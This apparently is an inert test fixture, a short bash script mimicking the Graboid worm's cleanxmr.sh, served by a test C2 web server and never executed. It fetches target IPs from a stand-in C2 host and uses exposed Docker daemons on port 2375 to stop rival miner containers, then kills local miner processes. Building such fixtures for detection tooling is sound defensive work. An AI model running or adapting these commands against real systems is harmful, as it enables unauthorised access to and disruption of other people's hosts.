#!/bin/bash
# INERT TEST FIXTURE for firedamp (tests/tools/c2www): mimics Graboid's
# cleanxmr.sh, which stops rival miner containers on other exposed Docker
# daemons and rival miner processes here. It is served to capture clients and
# never executed; every address in it is loopback (127.0.0.x) or documentation
# space (198.51.100.x).
C2=http://127.0.0.66
IP=$(curl -s $C2/ips.txt | shuf -n 1)
for c in $(docker -H tcp://$IP:2375 ps -q --filter ancestor=gakeaws/nginx:v8.9); do
    docker -H tcp://$IP:2375 stop $c
    docker -H tcp://$IP:2375 kill $c
done
pkill -9 xmrig
pkill -f minerd
killall -9 kdevtmpfsi 2>/dev/null
